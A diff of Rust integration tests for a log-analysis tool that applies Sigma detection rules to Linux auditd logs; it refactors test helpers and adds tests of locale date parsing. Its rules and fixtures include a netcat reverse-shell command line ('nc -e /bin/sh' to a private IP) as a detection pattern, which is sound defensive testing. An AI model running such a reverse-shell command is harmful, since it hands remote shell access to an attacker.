@@ -5,20 +5,33 @@
 //! many interleaved ones is counted, and the interpreted text of
 //! `ausearch -i` (local times, names, `----`) reads like the raw log.
 
+mod common;
+
 use lateral::sigma::linux::{self, MAX_OPEN};
 use std::fmt::Write as _;
-use std::path::Path;
-use std::process::{Command, Output};
+use std::path::{Path, PathBuf};
 
-fn run(args: &[&str]) -> Output {
-    Command::new(env!("CARGO_BIN_EXE_lateral"))
-        .args(args)
-        .output()
-        .expect("binary runs")
+/// Runs the binary (in the test's folder), insisting on a clean exit: its
+/// standard output and error.
+fn run(dir: &Path, args: &[&str]) -> (String, String) {
+    let o = common::run_ok(env!("CARGO_BIN_EXE_lateral"), dir, args);
+    (
+        String::from_utf8_lossy(&o.stdout).into_owned(),
+        String::from_utf8_lossy(&o.stderr).into_owned(),
+    )
 }
 
-fn stderr(o: &Output) -> String {
-    String::from_utf8_lossy(&o.stderr).into_owned()
+/// Writes `log` as `dir/name` and the rules into `dir/rules`: the rules'
+/// folder and the log's path.
+fn setup(dir: &Path, name: &str, log: &str, rules: &[(&str, String)]) -> (PathBuf, PathBuf) {
+    let input = dir.join(name);
+    std::fs::write(&input, log).expect("write");
+    let folder = dir.join("rules");
+    std::fs::create_dir(&folder).expect("mkdir");
+    for (file, text) in rules {
+        std::fs::write(folder.join(file), text).expect("write");
+    }
+    (folder, input)
 }
 
 /// The Sigma alerts of `lateral analyze --sigma RULES INPUT`: (name,
@@ -28,11 +41,9 @@ fn sigma(rules: &Path, input: &Path, extra: &[&str]) -> (Vec<(String, String, St
     args.extend_from_slice(extra);
     let (r, i) = (rules.display().to_string(), input.display().to_string());
     args.extend(["--sigma", &r, &i]);
-    let o = run(&args);
-    let err = stderr(&o);
-    assert_eq!(o.status.code(), Some(0), "{err}");
+    let (stdout, err) = run(input.parent().unwrap_or(Path::new(".")), &args);
     let mut out = Vec::new();
-    for line in String::from_utf8_lossy(&o.stdout).lines() {
+    for line in stdout.lines() {
         let v: serde_json::Value = serde_json::from_str(line).expect("JSON line");
         if v["rule"]["ruleset"] != "sigma" {
             continue;
@@ -108,35 +119,35 @@ fn interleaved_records_join_by_serial() {
         eoe(700),
     ]
     .concat();
-    let input = dir.path().join("audit.log");
-    std::fs::write(&input, log).expect("write");
-    let rules = dir.path().join("rules");
-    std::fs::create_dir(&rules).expect("mkdir");
-    std::fs::write(
-        rules.join("nc.yml"),
-        rule(
-            "Reverse shell by nc from tmp",
-            "    Image: /usr/bin/nc\n    CommandLine|contains: '-e /bin/sh'\n    CurrentDirectory: /tmp\n    User: '0'\n    ProcessId: '4001'\n    ParentProcessId: '3000'\n",
-        ),
-    )
-    .expect("write");
-    // Fields of the two events crossed: must never match.
-    std::fs::write(
-        rules.join("crossed.yml"),
-        rule(
-            "Crossed",
-            "    Image: /usr/bin/ls\n    CurrentDirectory: /tmp\n",
-        ),
-    )
-    .expect("write");
-    std::fs::write(
-        rules.join("crossed2.yml"),
-        rule(
-            "Crossed again",
-            "    Image: /usr/bin/nc\n    CommandLine|startswith: ls\n",
-        ),
-    )
-    .expect("write");
+    let (rules, input) = setup(
+        dir.path(),
+        "audit.log",
+        &log,
+        &[
+            (
+                "nc.yml",
+                rule(
+                    "Reverse shell by nc from tmp",
+                    "    Image: /usr/bin/nc\n    CommandLine|contains: '-e /bin/sh'\n    CurrentDirectory: /tmp\n    User: '0'\n    ProcessId: '4001'\n    ParentProcessId: '3000'\n",
+                ),
+            ),
+            // Fields of the two events crossed: must never match.
+            (
+                "crossed.yml",
+                rule(
+                    "Crossed",
+                    "    Image: /usr/bin/ls\n    CurrentDirectory: /tmp\n",
+                ),
+            ),
+            (
+                "crossed2.yml",
+                rule(
+                    "Crossed again",
+                    "    Image: /usr/bin/nc\n    CommandLine|startswith: ls\n",
+                ),
+            ),
+        ],
+    );
     let (alerts, err) = sigma(&rules, &input, &[]);
     let names: Vec<&str> = alerts.iter().map(|a| a.0.as_str()).collect();
     assert_eq!(names, ["Reverse shell by nc from tmp"], "{err}");
@@ -179,20 +190,21 @@ fn too_many_interleaved_events_are_counted() {
         log += &eoe(k);
     }
     let dir = tempfile::tempdir().expect("tempdir");
-    let input = dir.path().join("audit.log");
-    std::fs::write(&input, &log).expect("write");
-    let rules = dir.path().join("rules");
-    std::fs::create_dir(&rules).expect("mkdir");
-    std::fs::write(
-        rules.join("image.yml"),
-        rule("Tool image", "    Image|startswith: /usr/bin/tool\n"),
-    )
-    .expect("write");
-    std::fs::write(
-        rules.join("args.yml"),
-        rule("Tool arguments", "    CommandLine|endswith: ' --run'\n"),
-    )
-    .expect("write");
+    let (rules, input) = setup(
+        dir.path(),
+        "audit.log",
+        &log,
+        &[
+            (
+                "image.yml",
+                rule("Tool image", "    Image|startswith: /usr/bin/tool\n"),
+            ),
+            (
+                "args.yml",
+                rule("Tool arguments", "    CommandLine|endswith: ' --run'\n"),
+            ),
+        ],
+    );
     let (_, err) = sigma(&rules, &input, &[]);
     // Every EXECVE is a process creation; all but the two let go have
     // their image.
@@ -243,33 +255,33 @@ type=SYSCALL msg=audit(12/07/2026 10:11:13.000:679) : arch=x86_64 syscall=execve
 type=USER_LOGIN msg=audit(12/07/2026 10:11:14.000:680) : pid=1 uid=root auid=alice ses=3 msg='op=login id=alice exe=/usr/sbin/sshd hostname=10.0.0.5 addr=10.0.0.5 terminal=ssh res=success' 
 ";
     let dir = tempfile::tempdir().expect("tempdir");
-    let input = dir.path().join("ausearch.txt");
-    std::fs::write(&input, text).expect("write");
-    let rules = dir.path().join("rules");
-    std::fs::create_dir(&rules).expect("mkdir");
-    std::fs::write(
-        rules.join("nc.yml"),
-        rule(
-            "Reverse shell by nc from tmp",
-            "    Image: /usr/bin/nc\n    CommandLine: 'nc -e /bin/sh 10.0.0.5 4444'\n    CurrentDirectory: /tmp\n    User: root\n    ParentImage: null\n",
-        ),
-    )
-    .expect("write");
-    // Decoded already: `cafe` is not hex to decode again, and an
-    // argument's words stay together.
-    std::fs::write(
-        rules.join("cafe.yml"),
-        rule(
-            "Cafe child of nc",
-            "    Image: /opt/cafe\n    CommandLine: 'cafe echo hi there'\n    ParentImage: /usr/bin/nc\n    User: alice\n",
-        ),
-    )
-    .expect("write");
-    std::fs::write(
-        rules.join("syscall.yml"),
-        "title: Execve by name\nid: 00000000-0000-4000-8000-000000000099\nlogsource:\n  product: linux\n  service: auditd\ndetection:\n  selection:\n    type: SYSCALL\n    SYSCALL: execve\n    exe: /usr/bin/nc\n  condition: selection\nlevel: medium\n",
-    )
-    .expect("write");
+    let (rules, input) = setup(
+        dir.path(),
+        "ausearch.txt",
+        text,
+        &[
+            (
+                "nc.yml",
+                rule(
+                    "Reverse shell by nc from tmp",
+                    "    Image: /usr/bin/nc\n    CommandLine: 'nc -e /bin/sh 10.0.0.5 4444'\n    CurrentDirectory: /tmp\n    User: root\n    ParentImage: null\n",
+                ),
+            ),
+            // Decoded already: `cafe` is not hex to decode again, and an
+            // argument's words stay together.
+            (
+                "cafe.yml",
+                rule(
+                    "Cafe child of nc",
+                    "    Image: /opt/cafe\n    CommandLine: 'cafe echo hi there'\n    ParentImage: /usr/bin/nc\n    User: alice\n",
+                ),
+            ),
+            (
+                "syscall.yml",
+                "title: Execve by name\nid: 00000000-0000-4000-8000-000000000099\nlogsource:\n  product: linux\n  service: auditd\ndetection:\n  selection:\n    type: SYSCALL\n    SYSCALL: execve\n    exe: /usr/bin/nc\n  condition: selection\nlevel: medium\n".to_string(),
+            ),
+        ],
+    );
     let (alerts, err) = sigma(&rules, &input, &[]);
     let got: Vec<(&str, &str)> = alerts
         .iter()
@@ -301,14 +313,16 @@ type=USER_LOGIN msg=audit(12/07/2026 10:11:14.000:680) : pid=1 uid=root auid=ali
     );
 
     // The main pipeline reads it too: the exec and the login, by name.
-    let o = run(&[
-        "events",
-        "--timezone",
-        "+02:00",
-        &input.display().to_string(),
-    ]);
-    assert_eq!(o.status.code(), Some(0), "{}", stderr(&o));
-    let docs: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stdout)
+    let (stdout, _) = run(
+        dir.path(),
+        &[
+            "events",
+            "--timezone",
+            "+02:00",
+            &input.display().to_string(),
+        ],
+    );
+    let docs: Vec<serde_json::Value> = stdout
         .lines()
         .map(|l| serde_json::from_str(l).expect("JSON line"))
         .collect();
@@ -330,4 +344,57 @@ type=USER_LOGIN msg=audit(12/07/2026 10:11:14.000:680) : pid=1 uid=root auid=ali
         .expect("the login");
     assert_eq!(login["user"]["name"], "alice");
     assert_eq!(login["source"]["ip"], "10.0.0.5");
+}
+
+/// The date orders `ausearch -i` writes in common locales, placed by the
+/// offset; impossible dates and times are not records.
+#[test]
+fn ausearch_dates_in_each_locale_order() {
+    use lateral::model::event::Timestamp;
+    use lateral::source::auditd::{interpreted_time, parse_header_at};
+    let utc = interpreted_time("12/07/2026 10:11:12.345", 0).expect("US order");
+    for (text, offset) in [
+        ("12/07/26 10:11:12.345", 0),
+        ("2026-12-07 10:11:12.345", 0),
+        ("07.12.2026 10:11:12.345", 0),
+        ("12/07/2026 11:11:12.345", 3600),
+        ("12/07/2026 05:11:12.345", -5 * 3600),
+    ] {
+        assert_eq!(interpreted_time(text, offset), Some(utc), "{text}");
+    }
+    // Day first when the first number cannot be a month.
+    assert_eq!(
+        interpreted_time("25/12/2026 00:00:00.000", 0),
+        interpreted_time("12/25/2026 00:00:00.000", 0)
+    );
+    assert_eq!(
+        utc.secs() % 86_400,
+        10 * 3600 + 11 * 60 + 12,
+        "{utc:?} is 10:11:12 UTC"
+    );
+    for bad in [
+        "13/13/2026 10:11:12.345",
+        "12/07/2026 24:00:00.000",
+        "12/07/2026 10:61:00.000",
+        "12/07/2026",
+        "2026-00-07 10:11:12.345",
+        "12/07/2026 10:11:12.3456789012",
+        "x/y/z 1:2:3",
+    ] {
+        assert_eq!(interpreted_time(bad, 0), None, "{bad}");
+    }
+    let h = parse_header_at(
+        "node=web1 type=EXECVE msg=audit(12/07/2026 10:11:12.345:678) : argc=1 a0=ls",
+        0,
+    )
+    .expect("interpreted header");
+    assert_eq!(
+        (h.node, h.kind, h.serial, h.body, h.interpreted, h.ts),
+        (Some("web1"), "EXECVE", 678, "argc=1 a0=ls", true, utc)
+    );
+    // The raw log's epoch time of the same instant, UTC whatever the offset.
+    let raw = parse_header_at("type=EOE msg=audit(1796638272.345:678): ", 3600).expect("raw");
+    assert!(!raw.interpreted);
+    assert_eq!(raw.ts, Timestamp::from_parts(1_796_638_272, 345_000_000));
+    assert_eq!(raw.ts, utc);
 }
